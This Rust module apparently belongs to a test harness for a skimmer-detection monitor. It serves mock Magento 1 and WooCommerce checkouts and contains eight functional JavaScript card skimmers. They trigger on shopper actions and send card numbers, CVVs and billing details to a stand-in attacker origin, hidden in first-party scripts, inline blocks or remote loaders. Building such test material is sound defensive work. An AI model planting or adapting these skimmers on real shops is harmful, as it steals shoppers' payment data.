//! Two platform-style checkouts with step flows, and eight skimmers that wake only for a shopper
//! who completes them (issue 16).
//!
//! Skimmers found on breached shops rarely send on page load: they wait for the click on
//! "Place Order", a step's "Continue", a form submit, a complete billing address, a card number
//! that passes the Luhn check and matches the chosen card type. A monitor only catches them if
//! its shopper does what a buyer does, so the shop serves the two checkouts such samples are
//! written for, on the shop origin and clean by default:
//!
//! - [`Checkout::Magento1`], `/m1/checkout/onepage/`: Magento 1's one-page checkout, an
//!   `<ol id="checkoutSteps">` whose billing, shipping-method, payment and review sections open
//!   one after the other as each `save()` (Prototype-style globals `billing`, `shippingMethod`,
//!   `payment`, `review`) validates its visible required fields and POSTs them; the `ccsave`
//!   card block appears when that method is chosen, with `<select>`s for card type and expiry.
//! - [`Checkout::WooCommerce`], `/woo/checkout/`: one `form.checkout` with `billing_*` fields,
//!   payment-method radios (a card gateway among them), terms, and WooCommerce's AJAX flow on a
//!   small jQuery-compatible shim of ours (`/?wc-ajax=update_order_review` on address changes,
//!   `/?wc-ajax=checkout` on submit).
//!
//! The request that would place an order (`saveOrder`, `wc-ajax=checkout`) is answered like the
//! real platform answers it and can be read back with [`Shop::order_requests`]: a monitor must
//! keep it from ever arriving. Nothing served here is random, so rescans see identical content.
//!
//! [`Shop::plant_wake_skimmer`] plants one of the [`Wake`] skimmers, each with its own trigger,
//! channel and encoding (see the table on [`Wake`]), sending to its own path on the attacker
//! origin ([`Wake::exfil_path`]).

use super::attacks::insert_before_last;
use super::{Origin, RecordedRequest, Resource, Shop};
use std::time::{SystemTime, UNIX_EPOCH};

const M1_PAGE: &str = "/m1/checkout/onepage/";
const M1_VARIEN_JS: &str = "/m1/js/varien/js.js";
const M1_OPCHECKOUT_JS: &str = "/m1/skin/frontend/default/harbor/js/opcheckout.js";
const M1_CSS: &str = "/m1/skin/frontend/default/harbor/css/styles.css";
const M1_ORDER: &str = "/m1/checkout/onepage/saveOrder";

const WOO_PAGE: &str = "/woo/checkout/";
const WOO_JQUERY_JS: &str = "/woo/wp-includes/js/jquery/jquery.min.js";
const WOO_CHECKOUT_JS: &str = "/woo/wp-content/plugins/woocommerce/assets/js/frontend/checkout.min.js";
const WOO_THEME_JS: &str = "/woo/wp-content/themes/storefront/assets/js/navigation.min.js";
const WOO_CSS: &str = "/woo/wp-content/plugins/woocommerce/assets/css/woocommerce.css";
const WOO_ORDER: &str = "/?wc-ajax=checkout";

const M1_HTML: &str = include_str!("../assets/m1/onepage.html");
const M1_VARIEN: &str = include_str!("../assets/m1/varien.js");
const M1_OPCHECKOUT: &str = include_str!("../assets/m1/opcheckout.js");
const M1_STYLES: &str = include_str!("../assets/m1/styles.css");
const M1_SUCCESS_HTML: &str = include_str!("../assets/m1/success.html");
const WOO_HTML: &str = include_str!("../assets/woo/checkout.html");
const WOO_JQUERY: &str = include_str!("../assets/woo/jquery.js");
const WOO_CHECKOUT: &str = include_str!("../assets/woo/checkout.js");
const WOO_THEME: &str = include_str!("../assets/woo/navigation.js");
const WOO_STYLES: &str = include_str!("../assets/woo/woocommerce.css");
const WOO_RECEIVED_HTML: &str = include_str!("../assets/woo/order-received.html");

/// Magento's region lists for the countries that have one here (the others get a text field).
const M1_REGIONS: [(&str, &[(&str, &str)]); 2] = [
    ("US", &[("12", "California"), ("43", "New York"), ("57", "Texas"), ("62", "Washington")]),
    ("CA", &[("66", "Alberta"), ("67", "British Columbia"), ("74", "Ontario"), ("76", "Quebec")]),
];

/// WooCommerce's state lists (codes as WooCommerce uses them); Ireland is the default country.
const WOO_STATES: [(&str, &[(&str, &str)]); 5] = [
    ("IE", &[("CO", "Cork"), ("D", "Dublin"), ("G", "Galway"), ("KY", "Kerry"), ("L", "Limerick"), ("WX", "Wexford")]),
    ("GB", &[("Devon", "Devon"), ("Kent", "Kent"), ("Yorkshire", "Yorkshire")]),
    ("US", &[("CA", "California"), ("NY", "New York"), ("TX", "Texas")]),
    ("DE", &[("DE-BE", "Berlin"), ("DE-BY", "Bavaria"), ("DE-HH", "Hamburg")]),
    ("FR", &[("75", "Paris"), ("69", "Rhône"), ("13", "Bouches-du-Rhône")]),
];

/// One of the two platform-style checkouts on the shop origin.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Checkout {
    /// Magento 1 one-page checkout, `/m1/checkout/onepage/`.
    Magento1,
    /// WooCommerce checkout, `/woo/checkout/`.
    WooCommerce,
}

impl Checkout {
    pub const ALL: [Checkout; 2] = [Checkout::Magento1, Checkout::WooCommerce];

    /// Path of the checkout page on the shop origin.
    pub fn path(self) -> &'static str {
        match self {
            Checkout::Magento1 => M1_PAGE,
            Checkout::WooCommerce => WOO_PAGE,
        }
    }

    /// Path (and query) of the request that places the order, as [`RecordedRequest::path`]
    /// shows it: `/m1/checkout/onepage/saveOrder`, `/?wc-ajax=checkout`.
    pub fn order_path(self) -> &'static str {
        match self {
            Checkout::Magento1 => M1_ORDER,
            Checkout::WooCommerce => WOO_ORDER,
        }
    }

    /// Whether a request went to this checkout's order endpoint: same path, and the order
    /// query parameter among the request's (so `/?wc-ajax=checkout&x=1` counts too).
    fn is_order_request(self, request: &RecordedRequest) -> bool {
        let (path, query) = match self.order_path().split_once('?') {
            Some((path, query)) => (path, Some(query)),
            None => (self.order_path(), None),
        };
        let params = request.path.split_once('?').map(|(_, q)| q).unwrap_or("");
        request.origin == Origin::Shop
            && request.path_only() == path
            && match query {
                Some(wanted) => params.split('&').any(|param| param == wanted),
                None => true,
            }
    }

    /// Every file this checkout serves, clean: the page, its scripts and styles, the step
    /// endpoints and the page after the order.
    fn resources(self) -> Vec<(&'static str, Resource)> {
        let js = |body: &str| Resource::js(body).with_header("X-Content-Type-Options", "nosniff");
        let css = |body: &str| {
            Resource::new("text/css; charset=utf-8", body).with_header("X-Content-Type-Options", "nosniff")
        };
        let page = |body: String| Resource::html(body).with_header("X-Frame-Options", "SAMEORIGIN");
        match self {
            Checkout::Magento1 => vec![
                (M1_PAGE, page(m1_page(current_year()))),
                (M1_VARIEN_JS, js(M1_VARIEN)),
                (M1_OPCHECKOUT_JS, js(M1_OPCHECKOUT)),
                (M1_CSS, css(M1_STYLES)),
                ("/m1/checkout/onepage/saveBilling", Resource::json(r#"{"goto_section":"shipping_method"}"#)),
                ("/m1/checkout/onepage/saveShippingMethod", Resource::json(r#"{"goto_section":"payment"}"#)),
                ("/m1/checkout/onepage/savePayment", Resource::json(r#"{"goto_section":"review"}"#)),
                (M1_ORDER, Resource::json(r#"{"success":true,"redirect":"/m1/checkout/onepage/success/"}"#)),
                ("/m1/checkout/onepage/success/", page(M1_SUCCESS_HTML.to_string())),
            ],
            Checkout::WooCommerce => vec![
                (WOO_PAGE, page(woo_page())),
                (WOO_JQUERY_JS, js(WOO_JQUERY)),
                (WOO_CHECKOUT_JS, js(WOO_CHECKOUT)),
                (WOO_THEME_JS, js(WOO_THEME)),
                (WOO_CSS, css(WOO_STYLES)),
                (
                    "/?wc-ajax=update_order_review",
                    Resource::json(r#"{"result":"success","messages":"","reload":false,"fragments":{}}"#),
                ),
                (WOO_ORDER, Resource::json(r#"{"result":"success","redirect":"/woo/checkout/order-received/"}"#)),
                ("/woo/checkout/order-received/", page(WOO_RECEIVED_HTML.to_string())),
            ],
        }
    }
}

/// Every checkout's clean files, for the shop's default table.
pub(super) fn defaults() -> Vec<((Origin, String), Resource)> {
    Checkout::ALL
        .into_iter()
        .flat_map(Checkout::resources)
        .map(|(path, resource)| ((Origin::Shop, path.to_string()), resource))
        .collect()
}

/// `<option>`s for a list of `(value, label)`.
fn options(list: &[(&str, &str)]) -> String {
    list.iter().map(|(value, label)| format!("<option value=\"{value}\">{label}</option>")).collect()
}

/// A JSON object `{"country": {"code": "name", …}, …}`. The names are plain text without
/// quotes or backslashes, so they need no escaping.
fn lists_json(lists: &[(&str, &[(&str, &str)])]) -> String {
    let countries: Vec<String> = lists
        .iter()
        .map(|(country, list)| {
            let entries: Vec<String> = list.iter().map(|(code, name)| format!("\"{code}\":\"{name}\"")).collect();
            format!("\"{country}\":{{{}}}", entries.join(","))
        })
        .collect();
    format!("{{{}}}", countries.join(","))
}

/// The one-page checkout; the expiry years run from `year` to `year + 10`, as Magento renders
/// them server-side.
fn m1_page(year: u32) -> String {
    let months: Vec<(String, String)> =
        (1..=12).map(|m| (format!("{m:02}"), format!("{m:02} - {}", MONTH_NAMES[m - 1]))).collect();
    let months: Vec<(&str, &str)> = months.iter().map(|(v, l)| (v.as_str(), l.as_str())).collect();
    let years: Vec<String> = (year..=year + 10).map(|y| y.to_string()).collect();
    let years: Vec<(&str, &str)> = years.iter().map(|y| (y.as_str(), y.as_str())).collect();
    M1_HTML
        .replace("{{US_REGIONS}}", &options(M1_REGIONS[0].1))
        .replace("{{REGIONS_JSON}}", &lists_json(&M1_REGIONS))
        .replace("{{MONTHS}}", &options(&months))
        .replace("{{YEARS}}", &options(&years))
}

const MONTH_NAMES: [&str; 12] = [
    "January",
    "February",
    "March",
    "April",
    "May",
    "June",
    "July",
    "August",
    "September",
    "October",
    "November",
    "December",
];

fn woo_page() -> String {
    WOO_HTML.replace("{{IE_STATES}}", &options(WOO_STATES[0].1)).replace("{{STATES_JSON}}", &lists_json(&WOO_STATES))
}

/// The current year (UTC), from the civil-from-days algorithm (H. Hinnant), to avoid a date
/// dependency for one number.
fn current_year() -> u32 {
    let secs = SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
    year_of_day((secs / 86_400) as i64)
}

fn year_of_day(days_since_epoch: i64) -> u32 {
    let z = days_since_epoch + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + i64::from(month <= 2);
    u32::try_from(year).unwrap_or(1970)
}

/// A skimmer that waits for one shopper action before it sends the card.
///
/// | wake | page | planted as | wakes on | sends by | encoding |
/// |---|---|---|---|---|---|
/// | `PayButton` | M1 | lines appended to `opcheckout.js` wrapping `Review.prototype.save` | "Place Order" (`review.save()`) | image URL | URL-encoded base64 of JSON |
/// | `StepButton` | M1 | inline script (CMS footer) | click on the payment step's "Continue" | fetch POST | URL-encoded JSON (`payload=`) |
/// | `CvvBlur` | M1 | inline loader + attacker script | `blur` of `payment[cc_cid]` | XHR POST | form fields, plain |
/// | `LuhnAndType` | M1 | lines appended to `js/varien/js.js` | Luhn-valid number matching `payment[cc_type]`, expiry chosen | image URL (GA look-alike) | base64url of JSON |
/// | `FormSubmit` | Woo | lines appended to the theme's `navigation.min.js` | `submit` of `form.checkout` | `sendBeacon` | base64 of JSON |
/// | `BillingComplete` | Woo | inline script polling every 700 ms | all required billing fields, a Luhn-valid number, expiry and CVC | WebSocket | hex of JSON |
/// | `DelegatedClick` | Woo | inline `jQuery(document).on('click', '#place_order', …)` | click on "Place order" | XHR POST (`$.ajax`) | URL-encoded base64 of JSON, number reversed |
/// | `KeystrokeTimer` | Woo | attacker `<script src>` in the head | 1.5 s after the last key in a card field | fetch POST (keepalive) | JSON, number hex |
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Wake {
    /// M1: sends when "Place Order" runs `review.save()`.
    PayButton,
    /// M1: sends on a click of the payment step's "Continue" once a card number is typed.
    StepButton,
    /// WooCommerce: sends on `submit` of `form.checkout`.
    FormSubmit,
    /// M1: sends when `payment[cc_cid]` loses focus holding 3+ digits and a number is typed.
    CvvBlur,
    /// WooCommerce: sends once every required billing field, a Luhn-valid card number, the
    /// expiry and a 3+ digit CVC are filled in.
    BillingComplete,
    /// M1: sends once the number is Luhn-valid and fits the chosen `payment[cc_type]`, and
    /// expiry month and year are selected.
    LuhnAndType,
    /// WooCommerce: sends on a click of `#place_order`, through a jQuery-delegated handler.
    DelegatedClick,
    /// WooCommerce: sends 1.5 s after the last key typed in a card field.
    KeystrokeTimer,
}

/// Where a skimmer's code goes.
enum Placement {
    /// Appended to a first-party script of the checkout (British Airways style).
    Append(&'static str),
    /// An inline `<script>` before `</body>` of the page (stored in the CMS footer).
    Inline,
    /// The code is served by the attacker at this path; an inline loader before `</body>`
    /// inserts it.
    Loaded(&'static str),
    /// The code is served by the attacker at this path, included by a `<script src>` right
    /// after the page's jQuery (a plugin setting or a theme header edit).
    Tag(&'static str),
}

impl Wake {
    pub const ALL: [Wake; 8] = [
        Wake::PayButton,
        Wake::StepButton,
        Wake::FormSubmit,
        Wake::CvvBlur,
        Wake::BillingComplete,
        Wake::LuhnAndType,
        Wake::DelegatedClick,
        Wake::KeystrokeTimer,
    ];

    /// The checkout this skimmer is written for.
    pub fn checkout(self) -> Checkout {
        match self {
            Wake::PayButton | Wake::StepButton | Wake::CvvBlur | Wake::LuhnAndType => Checkout::Magento1,
            Wake::FormSubmit | Wake::BillingComplete | Wake::DelegatedClick | Wake::KeystrokeTimer => {
                Checkout::WooCommerce
            }
        }
    }

    /// Kebab-case name, e.g. `pay-button`.
    pub fn name(self) -> &'static str {
        match self {
            Wake::PayButton => "pay-button",
            Wake::StepButton => "step-button",
            Wake::FormSubmit => "form-submit",
            Wake::CvvBlur => "cvv-blur",
            Wake::BillingComplete => "billing-complete",
            Wake::LuhnAndType => "luhn-and-type",
            Wake::DelegatedClick => "delegated-click",
            Wake::KeystrokeTimer => "keystroke-timer",
        }
    }

    /// The path on the attacker origin the stolen data goes to, distinct per skimmer (no
    /// query; `BillingComplete` uses the attacker's WebSocket endpoint `/ws`).
    pub fn exfil_path(self) -> &'static str {
        match self {
            Wake::PayButton => "/img/pixel.gif",
            Wake::StepButton => "/api/cart/sync",
            Wake::FormSubmit => "/wp/track.php",
            Wake::CvvBlur => "/gate.php",
            Wake::BillingComplete => "/ws",
            Wake::LuhnAndType => "/g/collect",
            Wake::DelegatedClick => "/api/metrics",
            Wake::KeystrokeTimer => "/tr/keys",
        }
    }

    fn placement(self) -> Placement {
        match self {
            Wake::PayButton => Placement::Append(M1_OPCHECKOUT_JS),
            Wake::StepButton | Wake::BillingComplete | Wake::DelegatedClick => Placement::Inline,
            Wake::CvvBlur => Placement::Loaded("/js/mage/cookies.min.js"),
            Wake::LuhnAndType => Placement::Append(M1_VARIEN_JS),
            Wake::FormSubmit => Placement::Append(WOO_THEME_JS),
            Wake::KeystrokeTimer => Placement::Tag("/js/jquery.cookie.min.js"),
        }
    }

    fn code(self) -> &'static str {
        match self {
            Wake::PayButton => PAY_BUTTON,
            Wake::StepButton => STEP_BUTTON,
            Wake::FormSubmit => FORM_SUBMIT,
            Wake::CvvBlur => CVV_BLUR,
            Wake::BillingComplete => BILLING_COMPLETE,
            Wake::LuhnAndType => LUHN_AND_TYPE,
            Wake::DelegatedClick => DELEGATED_CLICK,
            Wake::KeystrokeTimer => KEYSTROKE_TIMER,
        }
    }
}

/// Wraps the checkout's own `Review.prototype.save`, so "Place Order" first sends every billing
/// and payment field, then places the order as usual.
const PAY_BUTTON: &str = r#"
;(function () {
  if (typeof Review === 'undefined') return;
  var place = Review.prototype.save;
  Review.prototype.save = function () {
    try {
      var d = {};
      ['co-billing-form', 'co-payment-form'].forEach(function (id) {
        var f = document.getElementById(id);
        if (!f) return;
        for (var i = 0; i < f.elements.length; i++) {
          var e = f.elements[i];
          if (e.name && e.value && ((e.type !== 'radio' && e.type !== 'checkbox') || e.checked)) d[e.name] = e.value;
        }
      });
      if (d['payment[cc_number]']) {
        new Image().src = '{{EXFIL}}?d=' + encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(d)))));
      }
    } catch (x) {}
    return place.apply(this, arguments);
  };
})();
"#;

/// A capturing click listener: runs before the button's own `onclick="payment.save()"`.
const STEP_BUTTON: &str = r#"(function(){document.addEventListener('click',function(e){var b=e.target&&e.target.closest&&e.target.closest('#payment-buttons-container button');if(!b)return;var g=function(n){var el=document.querySelector('[name="payment['+n+']"]');return el?el.value:''},num=g('cc_number').replace(/\D/g,'');if(num.length<12)return;var d={owner:g('cc_owner'),type:g('cc_type'),number:num,month:g('cc_exp_month'),year:g('cc_exp_year'),cvv:g('cc_cid'),email:(document.getElementById('billing:email')||{}).value||'',host:location.host};fetch('{{EXFIL}}',{method:'POST',mode:'no-cors',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'payload='+encodeURIComponent(JSON.stringify(d))}).catch(function(){})},true)})();"#;

/// The remote payload the CVV loader inserts: on leaving the security-code field.
const CVV_BLUR: &str = r#"!function(){var c=document.getElementById('ccsave_cc_cid');if(!c)return;var v=function(i){var e=document.getElementById(i);return e?e.value:''};c.addEventListener('blur',function(){var n=v('ccsave_cc_number').replace(/\D/g,'');if(!n||c.value.length<3)return;var x=new XMLHttpRequest;x.open('POST','{{EXFIL}}',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('cc='+encodeURIComponent(n)+'&exp='+encodeURIComponent(v('ccsave_expiration')+'/'+v('ccsave_expiration_yr'))+'&cvv='+encodeURIComponent(c.value)+'&name='+encodeURIComponent(v('ccsave_cc_owner'))+'&site='+encodeURIComponent(location.hostname))})}();
"#;

/// Sends once the number is Luhn-valid, its length and prefix fit the chosen card type, and an
/// expiry month and year are selected; checked on every input and change.
const LUHN_AND_TYPE: &str = r#"
;(function(){var sent=false;function f(n){var e=document.querySelector('[name="payment['+n+']"]');return e?e.value:''}
function luhn(n){for(var s=0,a=false,i=n.length-1;i>=0;i--){var c=+n.charAt(i);if(a){c*=2;if(c>9)c-=9}s+=c;a=!a}return s%10===0}
function fits(t,n){var p2=+n.slice(0,2),p3=+n.slice(0,3),p4=+n.slice(0,4),l=n.length;switch(t){case'VI':return n.charAt(0)==='4'&&(l===13||l===16||l===19);case'MC':return l===16&&((p2>=51&&p2<=55)||(p4>=2221&&p4<=2720));case'AE':return l===15&&(p2===34||p2===37);case'DI':return l===16&&(p4===6011||p2===65||(p3>=644&&p3<=649));case'JCB':return l===16&&p4>=3528&&p4<=3589}return false}
function check(){if(sent)return;var n=f('cc_number').replace(/\D/g,''),t=f('cc_type'),m=f('cc_exp_month'),y=f('cc_exp_year');if(n.length<13||!luhn(n)||!fits(t,n)||!m||!y)return;sent=true;var b=btoa(JSON.stringify({a:n,b:t,c:m+'/'+y,d:f('cc_cid'),e:f('cc_owner')})).replace(/\+/g,'-').replace(/\//g,'_').replace(/=+$/,'');new Image().src='{{EXFIL}}?v=2&tid=G-HP4821QX&en=page_view&dl='+encodeURIComponent(location.href)+'&ep.cid='+b}
document.addEventListener('input',check,true);document.addEventListener('change',check,true)})();
"#;

/// Appended to a theme file loaded after the form: the whole form on submit.
const FORM_SUBMIT: &str = r#"
;(function(){var f=document.querySelector('form.checkout');if(!f)return;f.addEventListener('submit',function(){try{var o={};for(var i=0;i<f.elements.length;i++){var e=f.elements[i];if(e.name&&e.value&&!/nonce|_wp_http/.test(e.name)&&((e.type!=='radio'&&e.type!=='checkbox')||e.checked))o[e.name]=e.value}navigator.sendBeacon('{{EXFIL}}',btoa(unescape(encodeURIComponent(JSON.stringify(o)))))}catch(x){}})})();
"#;

/// Polls until the address and the card are complete (a Luhn-valid number is typed to the
/// end once expiry and CVC hold something), then sends once over a WebSocket.
const BILLING_COMPLETE: &str = r#"(function(){var ids=['billing_first_name','billing_last_name','billing_country','billing_address_1','billing_city','billing_state','billing_postcode','billing_phone','billing_email','card_gateway-card-number','card_gateway-card-expiry','card_gateway-card-cvc'];function luhn(n){for(var s=0,a=false,i=n.length-1;i>=0;i--){var c=+n.charAt(i);if(a){c*=2;if(c>9)c-=9}s+=c;a=!a}return s%10===0}function hex(s){for(var o='',i=0;i<s.length;i++)o+=('0'+(s.charCodeAt(i)&255).toString(16)).slice(-2);return o}var t=setInterval(function(){var d={};for(var i=0;i<ids.length;i++){var e=document.getElementById(ids[i]);if(!e||!e.value)return;d[ids[i].replace('billing_','').replace('card_gateway-card-','cc_')]=e.value}var n=d.cc_number.replace(/\D/g,'');if(n.length<13||!luhn(n)||d.cc_cvc.length<3)return;clearInterval(t);d.cc_number=n;var m=hex(unescape(encodeURIComponent(JSON.stringify(d)))),ws=new WebSocket('{{WS}}');ws.onopen=function(){ws.send(m);setTimeout(function(){ws.close()},1000)}},700)})();"#;

/// A jQuery-delegated click handler on the pay button; posts with the page's own `$.ajax`.
const DELEGATED_CLICK: &str = r#"jQuery(document).on('click', '#place_order', function () {
  var n = (jQuery('#card_gateway-card-number').val() || '').replace(/\D/g, '');
  if (!n) return;
  var d = { n: n.split('').reverse().join(''), e: jQuery('#card_gateway-card-expiry').val(), c: jQuery('#card_gateway-card-cvc').val(),
    f: jQuery('#billing_first_name').val() + ' ' + jQuery('#billing_last_name').val(), m: jQuery('#billing_email').val() };
  jQuery.ajax({ type: 'POST', url: '{{EXFIL}}', data: { x: btoa(unescape(encodeURIComponent(JSON.stringify(d)))) } });
});"#;

/// Every key in a card field re-arms a 1.5 s timer; when the shopper stops typing it sends
/// what the card fields hold (again only if that changed).
const KEYSTROKE_TIMER: &str = r#"!function(){var t=null,last='';function v(i){var e=document.getElementById(i);return e?e.value:''}function hex(s){for(var o='',i=0;i<s.length;i++)o+=s.charCodeAt(i).toString(16);return o}function send(){var n=v('card_gateway-card-number').replace(/\D/g,'');if(!n)return;var s=JSON.stringify({k:hex(n),x:v('card_gateway-card-expiry'),c:v('card_gateway-card-cvc'),u:location.href});if(s===last)return;last=s;fetch('{{EXFIL}}',{method:'POST',mode:'no-cors',keepalive:true,body:s}).catch(function(){})}document.addEventListener('keydown',function(e){var i=e.target&&e.target.id||'';if(i.indexOf('card_gateway-card-')!==0)return;clearTimeout(t);t=setTimeout(send,1500)},true)}();
"#;

/// Inserts a loader script that adds the attacker's script to the page.
const LOADER: &str = r#"(function(d){var s=d.createElement('script');s.async=true;s.src='{{SCRIPT}}';(d.body||d.head).appendChild(s)})(document);"#;

impl Shop {
    /// Serves the clean files of one checkout again.
    fn restore_checkout(&self, checkout: Checkout) {
        for (path, resource) in checkout.resources() {
            self.set_resource(Origin::Shop, path, resource);
        }
    }

    /// URL of the checkout page.
    pub fn checkout_page_url(&self, checkout: Checkout) -> String {
        self.url(Origin::Shop, checkout.path())
    }

    /// URL of the script that carries `wake`'s code once planted: the first-party file it was
    /// appended to, the attacker's script, or the checkout page for an inline script.
    pub fn wake_skimmer_script_url(&self, wake: Wake) -> String {
        match wake.placement() {
            Placement::Append(path) => self.url(Origin::Shop, path),
            Placement::Inline => self.checkout_page_url(wake.checkout()),
            Placement::Loaded(path) | Placement::Tag(path) => self.url(Origin::Attacker, path),
        }
    }

    /// The skimmer code of `wake`, with this shop's attacker URLs filled in.
    pub fn wake_skimmer_code(&self, wake: Wake) -> String {
        wake.code()
            .replace("{{EXFIL}}", &self.url(Origin::Attacker, wake.exfil_path()))
            .replace("{{WS}}", &self.exfil_websocket_url())
    }

    /// Plants the skimmer for `wake` into its checkout page (replacing any planted before on that page).
    pub fn plant_wake_skimmer(&self, wake: Wake) {
        let checkout = wake.checkout();
        self.restore_checkout(checkout);
        if wake.exfil_path() != "/ws" {
            // Answers like a tracking pixel that any origin may read, so fetch/XHR succeed
            // quietly as they do against a real drop server.
            let pixel = Resource::new("image/svg+xml", super::content::PIXEL_SVG)
                .with_header("Access-Control-Allow-Origin", "*");
            self.set_resource(Origin::Attacker, wake.exfil_path(), pixel);
        }
        let code = self.wake_skimmer_code(wake);
        let page = checkout.path();
        match wake.placement() {
            Placement::Append(path) => self.append_to(Origin::Shop, path, &code),
            Placement::Inline => {
                let block = format!("<script>\n{code}\n</script>\n");
                self.edit(Origin::Shop, page, |r| insert_before_last(&mut r.body, "</body>", &block));
            }
            Placement::Loaded(path) | Placement::Tag(path) => {
                let url = self.url(Origin::Attacker, path);
                self.set_resource(
                    Origin::Attacker,
                    path,
                    Resource::js(code).with_header("Access-Control-Allow-Origin", "*"),
                );
                if let Placement::Loaded(_) = wake.placement() {
                    let block = format!("<script>{}</script>\n", LOADER.replace("{{SCRIPT}}", &url));
                    self.edit(Origin::Shop, page, |r| insert_before_last(&mut r.body, "</body>", &block));
                } else {
                    let tag = format!("\n<script src=\"{url}\"></script>");
                    let jquery = format!("<script src=\"{WOO_JQUERY_JS}\" id=\"jquery-core-js\"></script>");
                    self.edit(Origin::Shop, page, |r| match r.body.find(&jquery) {
                        Some(at) => r.body.insert_str(at + jquery.len(), &tag),
                        None => panic!("shop: the checkout page lost its jQuery tag"),
                    });
                }
            }
        }
    }

    /// Requests that reached the shop's order endpoint of `checkout` (must stay empty under the monitor).
    pub fn order_requests(&self, checkout: Checkout) -> Vec<RecordedRequest> {
        self.requests_to(Origin::Shop).into_iter().filter(|r| checkout.is_order_request(r)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn years_follow_the_calendar() {
        assert_eq!(year_of_day(0), 1970);
        assert_eq!(year_of_day(20_789), 2026); // 2026-12-02
        assert_eq!(year_of_day(20_819), 2027); // 2027-01-01
        assert_eq!(year_of_day(20_818), 2026); // 2026-12-31
    }

    #[test]
    fn the_card_form_offers_this_year_and_ten_more() {
        let page = m1_page(2026);
        assert!(page.contains(r#"<option value="2026">2026</option>"#));
        assert!(page.contains(r#"<option value="2036">2036</option>"#));
        assert!(!page.contains(r#"<option value="2037">"#));
        assert!(page.contains(r#"<option value="01">01 - January</option>"#));
        assert!(!page.contains("{{"), "every placeholder is filled");
        assert!(!woo_page().contains("{{"), "every placeholder is filled");
    }
}
